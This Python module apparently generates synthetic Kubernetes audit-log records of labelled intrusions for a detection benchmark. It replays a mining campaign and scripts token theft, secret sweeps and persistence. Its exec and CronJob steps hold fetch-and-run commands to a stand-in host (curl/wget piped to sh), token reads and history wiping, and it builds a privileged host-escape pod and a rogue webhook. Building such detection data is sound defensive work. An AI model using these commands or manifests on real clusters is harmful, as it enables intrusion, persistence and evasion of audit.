# ruff: noqa: PLR0917
"""Intrusions as they look in the audit log, each request labelled with its actor and step.

`rbac_buster` follows the capture published for the kube-controller mining campaign (honeypot, 2022-10-23) second by
second; `pace` squeezes it for the benchmark. The others are the usual moves after a stolen token or a foothold in a
pod.
"""

from __future__ import annotations

from typing import NamedTuple

from scenarios.synthetic import bodies
from scenarios.synthetic.bodies import Object
from scenarios.synthetic.cascades import Cascades
from scenarios.synthetic.cluster import AUTHENTICATED
from scenarios.synthetic.traffic import GROUPS, Traffic
from scenarios.synthetic.wire import (
    SECOND,
    Failure,
    Who,
    allowed,
    client,
    dump,
    forbidden,
    not_found,
    rbac,
    ref,
    stamp,
)  # fmt: skip

RBAC = "rbac.authorization.k8s.io"
BINDINGS = f"/apis/{RBAC}/v1/clusterrolebindings"


class Label(NamedTuple):
    """Who did it, and as which step of what."""

    audit_id: str
    actor: str
    step: str


class Intruder:
    """One actor; every request it makes is labelled."""

    def __init__(self, traffic: Traffic, actor: str) -> None:
        self.traffic, self.log, self.actor = traffic, traffic.log, actor
        self.labels: list[Label] = []

    def does(self, step: str, at: int, who: Who, verb: str, uri: str, target: str = "", **more: object) -> str:
        """One labelled request."""
        audit_id = self.log.request(at, who, verb, uri, target, **more)  # type: ignore[arg-type]
        self.labels.append(Label(audit_id, self.actor, step))
        return audit_id

    def lists(
        self,
        step: str,
        at: int,
        who: Who,
        resource: str,
        *,
        group: str = "",
        namespace: str = "",
        refused: bool = False,
        query: str = "?limit=500",
    ) -> str:
        """A list."""
        root = f"/apis/{group}/v1" if group else "/api/v1"
        path = f"{root}/namespaces/{namespace}/{resource}" if namespace else f"{root}/{resource}"
        failure = forbidden(who.name, "list", resource, group=group, namespace=namespace) if refused else None
        return self.does(step, at, who, "list", path + query, ref(resource, namespace, group=group), failure=failure)

    def deletes(self, step: str, at: int, who: Who, resource: str, name: str, *, group: str = "", namespace: str = "",
                failure: Failure | None = None, uid: str = "") -> str:  # fmt: skip
        """`kubectl delete`."""
        root = f"/apis/{group}/v1" if group else "/api/v1"
        path = f"{root}/namespaces/{namespace}/{resource}/{name}" if namespace else f"{root}/{resource}/{name}"
        kind = {"kind": "DeleteOptions", "apiVersion": f"{group}/v1" if group else "v1"}
        options = dump(kind | {"propagationPolicy": "Background"})
        return self.does(
            step, at, who, "delete", path, ref(resource, namespace, name, group=group), failure=failure,
            level=self.traffic.level, sent=options,
            returned="" if failure else bodies.success(resource, name, uid, group),
            status="" if failure else '{"metadata":{},"status":"Success","code":200}',
        )  # fmt: skip


def anonymous_admin(address: str, agent: str, binding: str) -> Who:
    """An anonymous client whom `binding` made cluster-admin."""
    reason = rbac(binding, "cluster-admin", 'User "system:anonymous"')
    return client("system:anonymous", address, agent, groups=("system:unauthenticated",), reason=reason)


def rbac_buster(
    traffic: Traffic, start: int, address: str, *, actor: str = "rbac_buster", pace: float = 1.0,
    door: str = "cluster-system-anonymous", door_uid: str = "", account: Who | None = None,
) -> tuple[Intruder, list[tuple[str, str]]]:  # fmt: skip
    """The kube-controller campaign from its first request at `start`. Its labels, and the pods it got: (name, node)."""
    him, log = Intruder(traffic, actor), traffic.log
    backdoor = "kube-controller-manager"

    def after(minutes: int, seconds: float) -> int:
        """Time of the capture's clock (12:30:24.602 is `start`)."""
        return start + int(((minutes - 30) * 60 + seconds - 24.602) * SECOND * pace)

    scanner = anonymous_admin(address, "python-requests/2.27.1", door)
    curl = scanner.using("curl/7.64.0")
    token = account or client(
        "system:serviceaccount:kube-system:default", address, "",
        groups=("system:serviceaccounts", "system:serviceaccounts:kube-system", AUTHENTICATED), uid=log.uuid(),
    )  # fmt: skip
    granted = rbac(backdoor, "cluster-admin", 'ServiceAccount "default/kube-system"')
    kubectl = token.using("kubectl/v1.24.4 (linux/amd64) kubernetes/95ee5ab").by(granted)

    him.does("list_all_secrets", after(30, 24.602), scanner, "list", "/api/v1/secrets/", ref("secrets"), took=21_000)
    grant = bodies.cluster_role_binding(backdoor, "cluster-admin", [bodies.account_subject("kube-system", "default")])
    at, backdoor_uid = after(37, 31.733), log.uuid()
    him.does(
        "backdoor_binding",
        at,
        curl,
        "create",
        BINDINGS,
        ref("clusterrolebindings", "", backdoor, group=RBAC),
        code=201,
        level=traffic.level,
        sent=dump(grant),
        returned=dump(bodies.stored(log, grant, at, "curl", backdoor_uid)),
    )
    system_secrets = "/api/v1/namespaces/kube-system/secrets"
    secrets = ref("secrets", "kube-system")
    him.does("steal_token", after(37, 41.482), curl, "list", system_secrets, secrets)
    # Two bindings allow discovery now; RBAC names whichever it meets first, and it meets them in no fixed order.
    discovery = allowed(rbac("system:discovery", "system:discovery", f'Group "{AUTHENTICATED}"'))
    paths = ["/api", "/apis", *(f"/apis/{group}" for group in GROUPS[:29]), "/api/v1"]
    for index, path in enumerate(paths):
        him.does(
            "discovery", after(37, 48.104 + 0.118 * index + 0.009 * (index % 5)), kubectl, "get", f"{path}?timeout=32s",
            annotations=discovery if log.rng.random() < 0.5 else "",
        )  # fmt: skip
    for seconds, resource, group, namespace, name in (
        (53.211, "deployments", "apps", "default", "worker-deployment"),
        (57.640, "deployments", "apps", "kube-system", "api-proxy"),
        (61.872, "pods", "", "default", "kube-secure-fhgxtsjh"),
        (66.027, "pods", "", "default", "kube-secure-fhgxt"),
    ):
        failure = not_found(resource, name, group)
        at = after(37, seconds)
        him.deletes("rival_cleanup", at, kubectl, resource, name, group=group, namespace=namespace, failure=failure)
    daemons, name = "/apis/apps/v1/namespaces/kube-system/daemonsets", "kube-controller"
    target = ref("daemonsets", "kube-system", name, group="apps")
    for seconds in (10.318, 19.557):
        missing = not_found("daemonsets", name, "apps")
        him.does("deploy_miner", after(38, seconds), kubectl, "get", f"{daemons}/{name}", target, failure=missing)
    namespace = ref("namespaces", "kube-system", "kube-system")
    him.does("deploy_miner", after(38, 20.904), kubectl, "get", "/api/v1/namespaces/kube-system", namespace)
    at, uid = after(38, 21.132), log.uuid()
    spec = bodies.pod_spec(
        [bodies.container(name, "kubrnetesio/kube-controller:1.0.1")], tolerations=[{"operator": "Exists"}]
    )
    labels = {"app": name}
    template: Object = {"metadata": {"creationTimestamp": None, "labels": labels}, "spec": spec}
    update = {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": 1, "maxSurge": 0}}
    plain = {
        "selector": {"matchLabels": labels},
        "template": {
            "metadata": {"labels": labels},
            "spec": {
                "containers": [{"image": "kubrnetesio/kube-controller:1.0.1", "name": name}],
                "tolerations": [{"operator": "Exists"}],
            },
        },
    }
    applied = {"apiVersion": "apps/v1", "kind": "DaemonSet",
               "metadata": {"annotations": {}, "name": name, "namespace": "kube-system"}, "spec": plain}  # fmt: skip
    daemon: Object = {
        "kind": "DaemonSet",
        "apiVersion": "apps/v1",
        "metadata": {
            "name": name,
            "namespace": "kube-system",
            "creationTimestamp": None,
            "annotations": {
                "deprecated.daemonset.template.generation": "0",
                "kubectl.kubernetes.io/last-applied-configuration": dump(applied) + "\n",
            },
        },
        "spec": {
            "selector": {"matchLabels": labels},
            "template": template,
            "updateStrategy": update,
            "revisionHistoryLimit": 10,
        },
        "status": {"currentNumberScheduled": 0, "numberMisscheduled": 0, "desiredNumberScheduled": 0, "numberReady": 0},
    }
    him.does(
        "deploy_miner",
        at,
        kubectl,
        "create",
        f"{daemons}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
        target,
        code=201,
        level=traffic.level,
        sent=dump(daemon),
        returned=dump(bodies.stored(log, daemon, at, "kubectl-client-side-apply", uid)),
        took=11_402,
    )
    pods = Cascades(traffic).daemon_set(at + 13_000, daemon, uid, spec, labels)
    him.does("steal_token", after(39, 15.761), curl, "list", system_secrets, secrets)
    at = after(39, 40.748)
    him.deletes("close_door", at, kubectl, "clusterrolebindings", door, group=RBAC, uid=door_uid or log.uuid())
    missing = not_found("daemonsets", "api-proxy", "apps")
    at = after(39, 42.390)
    him.deletes(
        "rival_cleanup", at, kubectl, "daemonsets", "api-proxy", group="apps", namespace="kube-sytem", failure=missing
    )
    at = after(39, 46.760)
    him.deletes("delete_backdoor", at, kubectl, "clusterrolebindings", backdoor, group=RBAC, uid=backdoor_uid)
    storm = [
        ("secrets", "", "kube-system"), ("pods", "", "kube-system"), ("configmaps", "", "kube-system"),
        ("ingresses", "networking.k8s.io", "default"), ("clusterroles", RBAC, ""), ("clusterrolebindings", RBAC, ""),
        ("roles", RBAC, "kube-system"), ("rolebindings", RBAC, "kube-system"), ("serviceaccounts", "", "kube-system"),
        ("services", "", "default"), ("deployments", "apps", "kube-system"), ("daemonsets", "apps", "kube-system"),
        ("statefulsets", "apps", "default"), ("jobs", "batch", "default"), ("cronjobs", "batch", "default"),
        ("endpoints", "", "kube-system"), ("events", "", "kube-system"), ("persistentvolumes", "", ""),
        ("persistentvolumeclaims", "", "default"), ("namespaces", "", ""), ("nodes", "", ""),
    ]  # fmt: skip
    for index, (resource, group, where) in enumerate(storm):
        at = after(39, 49.115 + index * 3.92 + 0.31 * (index % 4))
        him.lists("refused_storm", at, kubectl, resource, group=group, namespace=where, refused=True)
    refused = forbidden(kubectl.name, "delete", "clusterrolebindings", group=RBAC, name="eks-admin")
    at = after(41, 19.004)
    him.deletes("refused_storm", at, kubectl, "clusterrolebindings", "eks-admin", group=RBAC, failure=refused)
    return him, pods


def stolen_token(traffic: Traffic, start: int, address: str, account: Who, namespace: str) -> Intruder:
    """A service account's token used from outside: who am I, what may I, what is there."""
    him = Intruder(traffic, f"stolen_token:{account.name.rsplit(':', 1)[1]}")
    who = Who(
        account.name,
        account.user,
        dump([address]),
        "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
        account.annotations,
    )
    group = "authorization.k8s.io"
    at = start
    rules = {"kind": "SelfSubjectRulesReview", "apiVersion": f"{group}/v1", "metadata": {"creationTimestamp": None},
             "spec": {"namespace": namespace}, "status": {"resourceRules": None, "incomplete": False}}  # fmt: skip
    him.does("who_am_i", at, who, "create", f"/apis/{group}/v1/selfsubjectrulesreviews",
             ref("selfsubjectrulesreviews", group=group), code=201, level="Request", sent=dump(rules))  # fmt: skip
    for resource in ("secrets", "pods", "configmaps", "nodes", "namespaces", "serviceaccounts", "services"):
        at += SECOND
        him.lists("enumerate", at, who, resource, refused=resource in ("nodes", "namespaces"))
    for _ in range(12):
        at += SECOND // 2
        name = f"app-{him.log.suffix()}"
        him.does(
            "read_secrets",
            at,
            who,
            "get",
            f"/api/v1/namespaces/{namespace}/secrets/{name}",
            ref("secrets", namespace, name),
        )
    return him


def exec_shell(traffic: Traffic, start: int, address: str, who: Who, namespace: str, pod: str) -> Intruder:
    """Shells in a pod: look, download, run."""
    him = Intruder(traffic, f"exec:{who.name}")
    commands = (
        ["sh", "-c", "id; uname -a"],
        ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
        ["sh", "-c", "curl -fsSL http://198.51.100.200/x.sh | sh"],
        ["/bin/bash", "-i"],
        ["sh", "-c", "rm -f /tmp/x.sh; history -c"],
    )
    outside = Who(who.name, who.user, dump([address]), who.agent, who.annotations)
    for index, command in enumerate(commands):
        audit_id = traffic.exec(start + index * 2 * SECOND, outside, namespace, pod, "app", command, 1.5)
        him.labels.append(Label(audit_id, him.actor, "exec"))
    return him


def secrets_sweep(traffic: Traffic, start: int, who: Who, namespaces: list[str]) -> Intruder:
    """One identity reads the secrets of every namespace within seconds."""
    him = Intruder(traffic, f"sweep:{who.name}")
    him.lists("list_all_secrets", start, who, "secrets")
    for index, namespace in enumerate(namespaces):
        him.lists("sweep", start + SECOND + index * 90_000, who, "secrets", namespace=namespace)
    return him


def persistence(traffic: Traffic, start: int, who: Who, namespace: str) -> Intruder:
    """Ways to stay: a CronJob, an admin account with a token, a client certificate, a webhook."""
    him, log = Intruder(traffic, f"persistence:{who.name}"), traffic.log
    steps: list[tuple[str, str, str, Object]] = []
    shell = bodies.pod_spec(
        [bodies.container("backup", "alpine:3.18", command=["sh", "-c", "wget -qO- http://198.51.100.200/u | sh"])],
        restartPolicy="OnFailure",
    )
    spec = {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": shell}}}}
    steps.append(
        (
            "cronjob",
            "batch",
            "cronjobs",
            {
                "kind": "CronJob",
                "apiVersion": "batch/v1",
                "metadata": {"name": "node-backup", "namespace": namespace, "creationTimestamp": None},
                "spec": spec,
            },
        )
    )
    steps.append(
        (
            "admin_account",
            "",
            "serviceaccounts",
            {
                "kind": "ServiceAccount",
                "apiVersion": "v1",
                "metadata": {"name": "metrics-agent", "namespace": "kube-system", "creationTimestamp": None},
            },
        )
    )
    subject = [bodies.account_subject("kube-system", "metrics-agent")]
    steps.append(
        (
            "admin_binding",
            RBAC,
            "clusterrolebindings",
            bodies.cluster_role_binding("metrics-agent", "cluster-admin", subject),
        )
    )
    hook = {
        "name": "audit.example.net",
        "clientConfig": {"url": "https://198.51.100.200/mutate"},
        "failurePolicy": "Ignore",
        "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
    }
    steps.append(("webhook", "admissionregistration.k8s.io", "mutatingwebhookconfigurations",
                  {"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
                   "metadata": {"name": "audit-sidecar", "creationTimestamp": None}, "webhooks": [hook]}))  # fmt: skip
    escape = bodies.pod_spec(
        [
            bodies.container(
                "debug",
                "alpine:3.18",
                command=["chroot", "/host", "sh"],
                securityContext={"privileged": True},
                volumeMounts=[{"name": "host", "mountPath": "/host"}],
            )
        ],
        volumes=[{"name": "host", "hostPath": {"path": "/", "type": ""}}],
        hostNetwork=True,
        hostPID=True,
    )
    steps.append(
        (
            "escape_pod",
            "",
            "pods",
            {
                "kind": "Pod",
                "apiVersion": "v1",
                "metadata": {"name": "debug-node", "namespace": namespace, "creationTimestamp": None},
                "spec": escape,
            },
        )
    )
    for index, (step, group, resource, body) in enumerate(steps):
        at = start + index * 3 * SECOND
        where, name = body["metadata"].get("namespace", ""), body["metadata"]["name"]
        root = f"/apis/{group}/v1" if group else "/api/v1"
        path = f"{root}/namespaces/{where}/{resource}" if where else f"{root}/{resource}"
        him.does(
            step,
            at,
            who,
            "create",
            f"{path}?fieldManager=kubectl-create",
            ref(resource, where, name, group=group),
            code=201,
            level="RequestResponse",
            sent=dump(body),
            returned=dump(bodies.stored(log, body, at, "kubectl-create")),
        )
    at = start + 16 * SECOND
    path = "/api/v1/namespaces/kube-system/serviceaccounts/metrics-agent/token"
    target = ref("serviceaccounts", "kube-system", "metrics-agent", sub="token")
    him.does("token", at, who, "create", path, target, code=201)
    events = ref("events", namespace)
    him.does("delete_events", at + SECOND, who, "deletecollection", f"/api/v1/namespaces/{namespace}/events", events)
    return him


def brute_force(traffic: Traffic, start: int, address: str, tries: int) -> Intruder:
    """Rejected tokens, then what everybody may see. A 401 is logged at stage ResponseStarted only, without a user."""
    him, log = Intruder(traffic, f"brute_force:{address}"), traffic.log
    for index in range(tries):
        at = start + index * 70_000
        audit_id = log.uuid()
        log.put(
            at + 400,
            f'{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"{audit_id}",'
            f'"stage":"ResponseStarted","requestURI":"/api/v1/secrets?limit=500","verb":"list","user":{{}},'
            f'"sourceIPs":["{address}"],"userAgent":"Go-http-client/2.0",'
            f'"objectRef":{{"resource":"secrets","apiVersion":"v1"}},'
            f'"responseStatus":{{"metadata":{{}},"status":"Failure",'
            f'"message":"Authentication failed, attempted: bearer",'
            f'"code":401}},"requestReceivedTimestamp":"{stamp(at)}","stageTimestamp":"{stamp(at + 400)}"}}\n',
        )
        him.labels.append(Label(audit_id, him.actor, "rejected_token"))
    who = client("system:anonymous", address, "Go-http-client/2.0", groups=("system:unauthenticated",))
    for index, resource in enumerate(("secrets", "pods", "nodes", "configmaps")):
        him.lists("refused", start + (tries + index) * 70_000, who, resource, refused=True)
    return him
